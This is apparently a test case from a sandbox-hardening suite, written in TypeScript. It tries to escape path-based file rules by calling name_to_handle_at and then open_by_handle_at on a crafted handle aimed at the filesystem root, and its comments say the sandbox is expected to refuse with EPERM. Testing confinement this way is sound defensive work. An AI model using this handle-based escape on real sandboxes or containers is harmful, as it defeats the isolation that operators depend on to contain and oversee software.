// Attack: opens files by their number on the disk instead of by a name: no path is asked for, so no rule about paths holds.
// Ends: exited 0
// Refused: name_to_handle open_by_handle: EPERM
import { openSync } from "node:fs";
import { attempt } from "./means/attempt.ts";
import { loadNative } from "./means/native.ts";

export function attack(): void {
  const { call } = loadNative();
  const handle = Buffer.alloc(136);
  handle.writeUInt32LE(128, 0);
  const mount = openSync(".", "r");
  attempt("name_to_handle", () => call("name_to_handle_at", mount, Buffer.from("..\0"), handle, Buffer.alloc(8), 0));
  handle.writeUInt32LE(8, 0);
  handle.writeUInt32LE(1, 4);
  handle.writeUInt32LE(2, 8); // The root of most file systems.
  attempt("open_by_handle", () => call("open_by_handle_at", mount, handle, 0));
}
